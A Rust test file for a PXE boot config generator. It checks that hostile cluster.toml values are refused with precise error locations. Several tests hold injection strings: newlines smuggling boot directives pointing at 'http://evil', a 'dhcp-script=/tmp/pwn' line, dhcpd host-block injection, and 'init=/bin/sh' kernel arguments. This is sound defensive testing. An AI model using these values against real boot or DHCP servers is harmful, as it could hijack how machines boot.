//! A hostile or careless cluster.toml (issue 10, D8): each reproducer is refused by
//! `pxe-builder check` and `build` with file:line:column at the offending character, and
//! nothing is written to `--out`. Plus: `--out` naming an existing file is refused, the
//! file untouched; the widest names the rules accept pass the real DHCP servers' checks.

mod common;
use common::*;

#[test]
fn newline_in_an_entity_name_would_become_boot_directives() {
    refused(
        r#"name = "rack1""#,
        r#"name = "rack1\nLABEL evil\n  KERNEL http://evil/vmlinuz""#,
        r"\nLABEL",
        "entity name",
    );
}

#[test]
fn newline_in_an_image_name_would_add_a_second_server_to_bootopts() {
    refused(
        r#"image = "compute"          #"#,
        r#"image = "compute\nserver=http://evil:8080"          #"#,
        r"\nserver",
        "image name",
    );
}

#[test]
fn newline_in_a_node_name_would_add_a_dnsmasq_dhcp_script() {
    refused(
        r#"name = "n02""#,
        r#"name = "n02\ndhcp-script=/tmp/pwn""#,
        r"\ndhcp-script",
        "node name",
    );
}

#[test]
fn quote_and_brace_in_a_node_name_would_inject_a_dhcpd_host() {
    refused(
        r#"name = "n02""#,
        r#"name = "n02 { } host evil { hardware ethernet 00:00:00:00:00:01; fixed-address 172.20.0.9; } host x""#,
        " { }",
        "node name",
    );
    refused(
        r#"name = "n02""#,
        r#"name = "n02\"; }""#,
        r#"\"; }"#,
        "node name",
    );
}

#[test]
fn spaces_in_image_server_would_add_kernel_arguments() {
    refused(
        r#"image_server = "http://172.20.0.100:8080""#,
        r#"image_server = "http://172.20.0.100:8080 init=/bin/sh""#,
        " init",
        "image_server",
    );
    refused(
        r#"image_server = "http://172.20.0.100:8080""#,
        r#"image_server = "http://172.20.0.100:8080/\nentity=evil""#,
        r"\nentity",
        "control character",
    );
}

#[test]
fn slash_or_comma_in_names_would_break_status_posts_and_bootopts() {
    refused(
        r#"name = "n02""#,
        r#"name = "rack1/n02""#,
        "/n02",
        "status URLs",
    );
    refused(r#"name = "n02""#, r#"name = "n02,x""#, ",x", "bootopts");
    refused(
        r#"name = "debug""#,
        r#"name = "de,bug""#,
        ",bug",
        "group name",
    );
}

#[test]
fn a_node_named_primary_collides_with_the_plans_image_server() {
    refused(
        r#"name = "n02""#,
        r#"name = "primary""#,
        "primary",
        "reserved",
    );
}

#[test]
fn kernel_arguments_are_plain_words_and_not_our_keys() {
    refused(
        r#"kernel_args = "console=ttyS0""#,
        r#"kernel_args = "console=ttyS0 x=\"a b\"""#,
        r#"x=\""#,
        "kernel_args",
    );
    refused(
        r#"kernel_args = "console=ttyS0""#,
        r#"kernel_args = "console=ttyS0\nLABEL x""#,
        "console",
        "kernel_args",
    );
    refused(
        "\nargs = \"\"\n",
        "\nargs = \"quiet netboot.server=http://evil\"\n",
        "netboot.server",
        "set by pxe-builder",
    );
}

#[test]
fn build_refuses_an_out_that_is_a_file_and_leaves_it_alone() {
    let work = tempfile::tempdir().unwrap();
    let c = write_cluster(work.path(), &example());
    let file = work.path().join("notes.txt");
    std::fs::write(&file, "the admin's notes\n").unwrap();
    let o = run(&["build", "--cluster"], &c, Some(&file));
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("notes.txt") && err.contains("not a directory"),
        "{err}"
    );
    assert_eq!(std::fs::read(&file).unwrap(), b"the admin's notes\n");
    let names: Vec<String> = std::fs::read_dir(work.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().to_string())
        .collect();
    assert!(
        !names.iter().any(|n| n.contains("building")),
        "staging left behind: {names:?}"
    );
    // A symbolic link to a directory is refused too (the swap would replace the link).
    let dir = work.path().join("real");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("keep"), "x").unwrap();
    let link = work.path().join("link");
    std::os::unix::fs::symlink(&dir, &link).unwrap();
    let o = run(&["build", "--cluster"], &c, Some(&link));
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("symbolic link"));
    assert!(std::fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(std::fs::read(dir.join("keep")).unwrap(), b"x");
}

#[test]
fn the_widest_accepted_names_pass_dnsmasq_and_dhcpd() {
    let long = format!("n{}", "x".repeat(62));
    let body = example()
        .replace(r#""n01""#, r#""N.0_1-a""#)
        .replace(r#""n02""#, &format!("\"{long}\""))
        .replace(r#""rack2""#, r#""Rack_2.b-c""#);
    let work = tempfile::tempdir().unwrap();
    let c = write_cluster(work.path(), &body);
    let out = work.path().join("tree");
    let o = run(&["build", "--cluster"], &c, Some(&out));
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let dnsmasq = out.join("dhcp/dnsmasq.conf");
    assert!(std::fs::read_to_string(&dnsmasq)
        .unwrap()
        .contains(&format!(",{long}\n")));
    let conf = format!("--conf-file={}", dnsmasq.display());
    let o = real_check("dnsmasq", &["--test".as_ref(), conf.as_ref()]);
    assert!(
        o.status.success(),
        "dnsmasq --test: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let dhcpd = out.join("dhcp/dhcpd.conf");
    let o = real_check(
        "dhcpd",
        &[
            "-t".as_ref(),
            "-4".as_ref(),
            "-cf".as_ref(),
            dhcpd.as_os_str(),
        ],
    );
    assert!(
        o.status.success(),
        "dhcpd -t: {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn check_refuses_a_command_line_the_kernel_would_cut() {
    // 30 vSMP boards with 60-character names: each board's entry lists every board
    // (vsmp.boards=…), 1 830 bytes before our netboot.* keys; the kernel keeps 2 047.
    let mut body = example();
    let names: Vec<String> = (0..30)
        .map(|i| format!("b{i:02}{}", "x".repeat(57)))
        .collect();
    body = body.replace(
        "active = [\"n03\", \"n04\"]",
        &format!(
            "active = [{}]",
            names
                .iter()
                .map(|n| format!("\"{n}\""))
                .collect::<Vec<_>>()
                .join(", ")
        ),
    );
    body = body.replace(
        "groups = [\"compute\", \"vSMP_big\"]\nactive_group = \"vSMP_big\"",
        "groups = [\"compute\"]",
    );
    body = body.replace("groups = [\"vSMP_big\"]", "groups = [\"compute\"]");
    for (i, n) in names.iter().enumerate() {
        body.push_str(&format!(
            "\n[[node]]\nname = \"{n}\"\nmac = \"52:54:00:00:01:{i:02x}\"\nip = \"172.20.1.{}\"\nentity = \"rack2\"\ngroups = [\"vSMP_big\"]\n",
            i + 10
        ));
    }
    let work = tempfile::tempdir().unwrap();
    let c = write_cluster(work.path(), &body);
    let o = run(&["check"], &c, None);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("pxelinux.cfg/01-52-54-00-00-01-00") && err.contains("1792"),
        "{err}"
    );
    let out = work.path().join("tree");
    let o = run(&["build", "--cluster"], &c, Some(&out));
    assert_eq!(o.status.code(), Some(2));
    assert!(!out.exists());
}

#[test]
fn an_image_id_pin_must_be_an_image_id() {
    refused(
        r#"name = "compute"
image = "compute"          #"#,
        r#"name = "compute"
image_id = "abc\nserver=http://evil"
image = "compute"          #"#,
        r"\nserver",
        "64 lower-case hex",
    );
}

#[test]
fn an_image_id_pin_reaches_every_boot_path_of_the_group() {
    let id = "0123456789abcdef".repeat(4);
    let text = example().replacen(
        "name = \"compute\"\nimage = \"compute\"",
        &format!("name = \"compute\"\nimage_id = \"{id}\"\nimage = \"compute\""),
        1,
    );
    let work = tempfile::tempdir().unwrap();
    let c = write_cluster(work.path(), &text);
    let out = work.path().join("tree");
    let o = run(&["build", "--cluster"], &c, Some(&out));
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let files = snapshot(&out);
    let with = |needle: &str| {
        files
            .iter()
            .filter(|(_, b)| String::from_utf8_lossy(b).contains(needle))
            .map(|(p, _)| p.display().to_string())
            .collect::<Vec<_>>()
    };
    let pinned = with(&format!("netboot.image_id={id}"));
    // The compute group's pxelinux and GRUB entries carry the pin, …
    for kind in ["pxelinux.cfg/", "grub.cfg-"] {
        assert!(
            pinned.iter().any(|p| p.contains(kind)),
            "{kind}: {pinned:?}"
        );
    }
    // … so does bootopts of an entity whose default group is compute, …
    let bootopts = with(&format!("image_id={id}\n"));
    assert!(
        bootopts.iter().any(|p| p.starts_with("etc/bootopts/")),
        "{bootopts:?}"
    );
    // … and only those: every bootopts file with the pin names compute as its group.
    for (p, b) in files.iter().filter(|(p, _)| p.starts_with("etc/bootopts/")) {
        let t = String::from_utf8_lossy(b);
        assert_eq!(
            t.contains("\nimage_id="),
            t.contains("\ngroup=compute\n"),
            "{}: {t}",
            p.display()
        );
    }
    // … and nodes of the other groups are not pinned.
    let debug = files
        .iter()
        .filter(|(_, b)| String::from_utf8_lossy(b).contains("netboot.group=debug"))
        .count();
    assert!(debug > 0);
    assert!(files.iter().all(|(_, b)| {
        let t = String::from_utf8_lossy(b);
        !t.lines().any(|l| {
            l.contains("netboot.group=")
                && !l.contains("netboot.group=compute ")
                && l.contains("image_id")
        })
    }));
}

#[test]
fn an_io_error_prints_its_cause_once() {
    let work = tempfile::tempdir().unwrap();
    let c = write_cluster(work.path(), &example());
    let file = work.path().join("notes.txt");
    std::fs::write(&file, "mine").unwrap();
    // --out below a regular file: ENOTDIR, which was printed twice.
    let o = run(&["build", "--cluster"], &c, Some(&file.join("tree")));
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert_eq!(err.matches("(os error 20)").count(), 1, "{err}");
}
